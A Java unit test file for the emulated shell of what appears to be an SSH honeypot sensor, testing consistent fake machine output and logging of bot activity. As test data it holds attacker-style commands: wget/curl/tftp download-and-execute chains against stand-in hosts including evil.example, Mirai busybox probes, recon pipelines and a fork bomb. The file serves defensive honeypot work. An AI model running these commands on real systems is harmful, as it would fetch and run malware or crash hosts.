package io.rustbucket.sensor.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.rustbucket.core.testing.TestClock;
import io.rustbucket.sensor.respond.Answer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class ShellTest {
    final TestClock clock = new TestClock(java.time.Instant.parse("2026-11-22T10:00:00Z"));
    final FakeMachine machine = FakeMachine.forSensor("sensor-1", null, clock);
    final FakeFileSystem image = MachineImage.build(machine);
    final List<String> asked = new ArrayList<>();
    final Shell.Unknown hook = (command, fallback) -> {
        asked.add(command);
        return new Answer(fallback, "fallback");
    };

    Shell shell() {
        return new Shell(machine, image.session(), "root", "203.0.113.7");
    }

    String run(Shell sh, String line) {
        return sh.run(line, hook).text();
    }

    @Test
    void machineIsConsistentAcrossCommands() {
        Shell sh = shell();
        String host = run(sh, "hostname").strip();
        assertThat(host).startsWith("ip-172-31-").isEqualTo(machine.hostname());
        assertThat(run(sh, "cat /etc/hostname").strip()).isEqualTo(host);
        assertThat(run(sh, "uname -a")).contains(host).contains("x86_64 GNU/Linux");
        assertThat(run(sh, "ifconfig")).contains(machine.privateIp()).contains(machine.mac());
        assertThat(run(sh, "ip a")).contains(machine.privateIp());
        assertThat(run(sh, "nproc").strip()).isEqualTo(String.valueOf(machine.cpus()));
        assertThat(run(sh, "cat /proc/cpuinfo | grep 'model name' | wc -l").strip())
                .isEqualTo(String.valueOf(machine.cpus()));
        assertThat(run(sh, "w")).contains("203.0.113.7");
        assertThat(FakeMachine.forSensor("sensor-2", null, clock).hostname()).isNotEqualTo(host);
        assertThat(asked).isEmpty();
    }

    @Test
    void uptimeAdvancesWithTheClock() {
        Shell sh = shell();
        String before = run(sh, "cat /proc/uptime");
        clock.advance(Duration.ofHours(3));
        String after = run(sh, "cat /proc/uptime");
        double b = Double.parseDouble(before.split(" ")[0]);
        double a = Double.parseDouble(after.split(" ")[0]);
        assertThat(a - b).isEqualTo(3 * 3600.0, org.assertj.core.data.Offset.offset(0.01));
        assertThat(run(sh, "uptime")).contains("up ").contains("load average");
    }

    @Test
    void miraiStyleProbesAreAnsweredByTheEmulator() {
        Shell sh = shell();
        assertThat(run(sh, "enable")).contains("enable cd");
        assertThat(run(sh, "system")).isEqualTo("-bash: system: command not found\n");
        assertThat(run(sh, "shell")).contains("command not found");
        assertThat(run(sh, "/bin/busybox ECCHI")).isEqualTo("ECCHI: applet not found\n");
        assertThat(sh.run("/bin/busybox ECCHI", hook).responder()).isEqualTo("emulator");
        byte[] elf = sh.run("cat /bin/echo", hook).output();
        assertThat(elf[0]).isEqualTo((byte) 0x7f);
        assertThat(new String(elf, 1, 3)).isEqualTo("ELF");
        assertThat(elf[18]).isEqualTo((byte) 0x3e);
        assertThat(asked).isEmpty();
    }

    @Test
    void operatorsRedirectionsAndSessionFiles() {
        Shell sh = shell();
        assertThat(run(sh, "cd /tmp && pwd")).isEqualTo("/tmp\n");
        assertThat(sh.prompt()).isEqualTo("root@" + machine.hostname() + ":/tmp# ");
        assertThat(run(sh, "cd /nope || echo fallback"))
                .contains("No such file or directory")
                .contains("fallback");
        assertThat(run(sh, "false && echo no; echo yes")).isEqualTo("yes\n");
        run(sh, "echo hello > a.txt; echo world >> a.txt");
        assertThat(run(sh, "cat /tmp/a.txt")).isEqualTo("hello\nworld\n");
        assertThat(run(sh, "ls")).contains("a.txt");
        assertThat(run(sh, "ls -la /tmp")).contains("root root").contains("a.txt");
        assertThat(run(sh, "cat a.txt | grep wor")).isEqualTo("world\n");
        assertThat(run(sh, "cat missing 2>/dev/null; echo $?")).isEqualTo("1\n");
        assertThat(run(sh, "export X=42; echo \"x=$X\" '$X'")).isEqualTo("x=42 $X\n");
        assertThat(run(sh, "echo $(uname -m)-`whoami`")).isEqualTo("x86_64-root\n");
        assertThat(run(sh, "sh -c 'echo inner; id'")).contains("inner").contains("uid=0(root)");
        assertThat(run(sh, "echo -ne '\\x41\\x42'")).isEqualTo("AB");
        run(sh, "mkdir -p x/y && touch x/y/z && rm -rf x");
        assertThat(run(sh, "ls x")).contains("cannot access");
        assertThat(run(sh, "history")).contains("cd /tmp && pwd");
        assertThat(run(sh, "echo one # a comment; echo no")).isEqualTo("one\n");
        assertThat(run(sh, "echo a#b")).isEqualTo("a#b\n");
        // another session on the same machine does not see this one's files
        assertThat(run(shell(), "cat /tmp/a.txt")).contains("No such file or directory");
    }

    @Test
    void downloadsAreRecordedNotFetched() {
        Shell sh = shell();
        Shell.Result r = sh.run(
                "cd /tmp; wget http://198.51.100.9/bins/x86; chmod +x x86; ./x86; curl -O http://evil.example/a.sh;"
                        + " busybox tftp -g -r m.arm 198.51.100.9",
                hook);
        assertThat(r.urls())
                .containsExactly(
                        "http://198.51.100.9/bins/x86", "http://evil.example/a.sh", "tftp://198.51.100.9/m.arm");
        assertThat(r.text()).contains("saved [");
        assertThat(run(sh, "ls -l x86")).startsWith("-rwxr-xr-x");
        assertThat(run(sh, "ls")).contains("a.sh").contains("m.arm");
        assertThat(run(sh, "./nothere")).contains("No such file or directory");
    }

    @Test
    void reconPipelinesBotsRunAreEmulated() {
        Shell sh = shell();
        assertThat(run(sh, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'"))
                .isEqualTo("Intel(R) Xeon(R) Platinum 8259CL CPU @\n");
        assertThat(run(sh, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'")).isEqualTo("49G\n");
        assertThat(run(sh, "echo a:b:c | awk -F: '{print $3}'")).isEqualTo("c\n");
        assertThat(run(sh, "awk 'BEGIN {system(\"id\")}'")).contains("syntax error");
        assertThat(run(sh, "sudo -l")).contains("(ALL : ALL) ALL");
        assertThat(run(sh, "sudo id")).startsWith("uid=0(root)");
        assertThat(run(sh, "top")).contains("Tasks:").contains("sshd");
        assertThat(run(sh, "ss -tulpn")).contains("0.0.0.0:22");
        assertThat(run(sh, "docker ps")).isEqualTo("-bash: docker: command not found\n");
        assertThat(asked).isEmpty();
    }

    @Test
    void aDownloadedScriptRunsAsNothingAndABinaryIsNotReadAsAScript() {
        Shell sh = shell();
        assertThat(run(sh, "cd /tmp; wget -q http://203.0.113.50/x.sh; sh x.sh; echo $?"))
                .endsWith("0\n");
        assertThat(run(sh, "wget -q http://203.0.113.50/bot.arm7; sh bot.arm7")).contains("Syntax error");
        assertThat(asked).isEmpty();
        // however many unknown commands one line holds, at most three reach the responder
        sh.run("a1; a2; a3; a4; a5; a6", hook);
        assertThat(asked).containsExactly("a1", "a2", "a3");
    }

    @Test
    void unknownCommandsGoToTheHookWithBashsFallback() {
        Shell sh = shell();
        Shell.Result r = sh.run("ls /; frobnicate --all", hook);
        assertThat(asked).containsExactly("frobnicate --all");
        assertThat(r.text()).contains("-bash: frobnicate: command not found");
        assertThat(r.responder()).isEqualTo("fallback");
        Shell.Result llm = sh.run("lsblk", (c, f) -> new Answer("NAME    MAJ:MIN RM  SIZE", "llm"));
        assertThat(llm.text()).isEqualTo("NAME    MAJ:MIN RM  SIZE\n");
        assertThat(llm.responder()).isEqualTo("llm");
    }

    @Test
    void exitAndHostileInputNeverThrow() {
        Shell sh = shell();
        for (String line : List.of(
                "'unterminated",
                "\"also",
                "$(",
                "`",
                "echo ${",
                "|||;;;&&&",
                ">",
                "2>",
                "cat < /nope",
                "$($($($(echo deep))))",
                "x".repeat(100_000),
                "yes | head",
                "echo a > /",
                ":(){ :|:& };:")) {
            sh.run(line, hook);
        }
        // the write budget holds: a session cannot fill memory with files
        String big = "A".repeat(8000);
        for (int i = 0; i < 300; i++) {
            sh.run("echo " + big + " >> /tmp/big", hook);
        }
        assertThat(run(sh, "echo " + big + " >> /tmp/big")).contains("No space left on device");
        assertThat(sh.run("exit", hook).exit()).isTrue();
    }
}
